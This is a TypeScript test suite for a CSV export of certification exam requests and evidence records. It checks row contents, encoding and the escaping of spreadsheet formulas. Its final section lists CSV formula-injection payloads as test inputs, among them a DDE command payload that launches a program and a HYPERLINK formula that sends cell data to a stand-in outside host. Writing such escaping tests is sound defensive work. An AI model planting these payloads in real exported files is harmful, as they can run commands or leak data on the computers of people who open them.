import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { COLUMNS, exportRows } from '../../../lib/data/rows';
import { tableOf } from '../../../lib/data/table';
import { anyText } from '../channels/any-text';
import { credlyBadge, exam, learnTranscript, oldTranscript, requestWith } from '../request/example-request';
import { NOTHING, only, RICH, SENT } from './example-data';

const requestsWith = (...given: Parameters<typeof requestWith>) => only(requestWith(...given).request).requests;
/** The table as a program reads it. */
const readBack = (table: string) => {
  const { data, errors, meta } = Papa.parse<Record<string, string>>(table, { header: true });
  expect(errors).toEqual([]);
  expect(meta.fields).toEqual([...COLUMNS]);
  return data;
};

describe('the rows', () => {
  it('hold each exam asked for and each piece of evidence, request by request', () => {
    const rows = exportRows(RICH);
    expect(rows.map(({ request, kind, code }) => [request, kind, code].join(' ').trim())).toEqual([
      '2026-04-20 exam AZ-103',
      '2026-04-20 exam AZ-900',
      '2026-04-20 exam AZ-400',
      '2026-04-20 mcp-transcript',
      '2026-04-20 learn-transcript',
      '2026-04-20 credly-badge',
      '2026-07-01 learn-credential',
    ]);
  });

  it('tell whether each exam was sent, and with what result', () => {
    expect(exportRows(RICH)[0]).toEqual({
      request: '2026-04-20',
      stage: 'closed',
      sent: '2026-06-02T08:00:00.000Z',
      recipient: '',
      kind: 'exam',
      code: 'AZ-103',
      title: 'Microsoft Azure Administrator',
      passed: '2019-05-14',
      link: '',
      transcript_id: '',
      credit_hours: '3',
    });
    const first = { ...RICH, all: [{ ...SENT, life: SENT.life.slice(0, 1) }], currentId: 'first' };
    expect(exportRows(first)[0]).toMatchObject({ stage: 'sent', recipient: 'itcertifications@excelsior.edu' });
    expect(exportRows(first)[0]?.credit_hours).toBe('');
  });

  it('give no time for a letter if only its date is known', () => {
    const at = new Date(2026, 5, 3, 12).toISOString();
    const life: typeof SENT.life = [{ event: 'sent', at, isDayOnly: true }];
    expect(exportRows({ ...RICH, all: [{ ...SENT, life }] })[0]).toMatchObject({ sent: '2026-06-03' });
  });

  it('name the credit as last recorded', () => {
    const answer = (hours: number) => ({ event: 'answered', answer: 'posted', credits: [{ exam: 'AZ-103', hours }] });
    const at = '2026-06-22T14:00:00.000Z';
    const life = [SENT.life[0], { ...answer(3), at, note: '' }, { ...answer(0), at, note: '' }] as typeof SENT.life;
    expect(exportRows({ ...RICH, all: [{ ...SENT, life }] })[0]?.credit_hours).toBe('0');
  });

  it('distinguish requests started on the same day', () => {
    const all = RICH.all.map((request) => ({ ...request, startedAt: '2026-04-20T12:00:00.000Z' }));
    const names = new Set(exportRows({ ...RICH, all }).map(({ request }) => request));
    expect([...names]).toEqual(['2026-04-20', '2026-04-20 (2)']);
  });

  it('say on which site the evidence is published', () => {
    const evidence = [oldTranscript(), credlyBadge(), learnTranscript({ exams: [exam('AZ-900')] })];
    expect(
      exportRows(requestsWith(evidence)).map(({ title, link, transcript_id }) => [title, link, transcript_id]),
    ).toEqual([
      ['', oldTranscript().viewingPage, '1234567'],
      [credlyBadge().title, credlyBadge().link, ''],
      ['', learnTranscript().link, ''],
    ]);
  });

  it('are empty if there is nothing to list', () => {
    expect(exportRows(NOTHING.requests)).toEqual([]);
  });
});

describe('the table', () => {
  it('is read back unchanged', () => {
    expect(readBack(tableOf(RICH))).toEqual(exportRows(RICH));
  });

  it('starts with the byte-order mark for Excel and the column names, and ends every line with CRLF', () => {
    const lines = tableOf(RICH).split('\r\n');
    expect(lines[0]).toBe(`\uFEFF${COLUMNS.join(',')}`);
    expect(lines).toHaveLength(exportRows(RICH).length + 1);
    expect(tableOf(NOTHING.requests).trimEnd()).toBe(`\uFEFF${COLUMNS.join(',')}`);
  });

  it('contains no access code', () => {
    const { request } = requestWith([oldTranscript()], { codes: { 1234567: 'Avery2020' } });
    expect(tableOf(only(request).requests)).not.toContain('Avery2020');
  });

  it('keeps commas, quotes and non-Latin letters', () => {
    const title = 'Größe, "Azure"; 試験 – 100 %';
    const [row] = readBack(tableOf(requestsWith([credlyBadge({ title })])));
    expect(row?.title).toBe(title);
  });
});

describe('anything a spreadsheet would take for a formula becomes text', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://example.com/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '  \t @SUM(1,1)',
    '\u00A0=1+1',
    '\u3000-1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=1\n+1',
    '"=1+1"',
  ])('%j', (title) => {
    const [row] = readBack(tableOf(requestsWith([credlyBadge({ title })])));
    expect(row?.title).toMatch(/^(?:'|[^\s=+\-@＝＋－＠])/);
    const withoutMarks = (text = '') => text.replaceAll("'", '');
    expect(withoutMarks(row?.title)).toBe(withoutMarks(title));
  });

  it.each([
    ['Azure;=1+1', "Azure;'=1+1"],
    ['Azure; @SUM(1)', "Azure;' @SUM(1)"],
    ['Azure\t-1', "Azure\t'-1"],
    ['Azure\n+1', "Azure\n'+1"],
  ])('even if a semicolon, tab or line break ends a cell, as in other locales: %j', (title, written) => {
    const [row] = readBack(tableOf(requestsWith([credlyBadge({ title })])));
    expect(row?.title).toBe(written);
  });

  it('in every column, for any typed or read text', () => {
    const evil = fc
      .constantFrom('=', '+', '-', '@', '\t=', '\r-', '\n@', ' =')
      .chain((begin) => anyText.map((text) => begin + text));
    fc.assert(
      fc.property(evil, (text) => {
        const requests = requestsWith([credlyBadge({ title: text, link: text }), oldTranscript({ viewingPage: text })]);
        for (const row of readBack(tableOf(requests))) {
          for (const value of Object.values(row)) expect(value).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
        }
      }),
      { numRuns: 100 },
    );
  });

  it('and nothing else is changed', () => {
    for (const title of ['Azure', "'quoted'", '1-2', 'a=b', 'a@b.c', '70-533', '3.5']) {
      const [row] = readBack(tableOf(requestsWith([credlyBadge({ title })])));
      expect(row?.title).toBe(title);
    }
  });
});
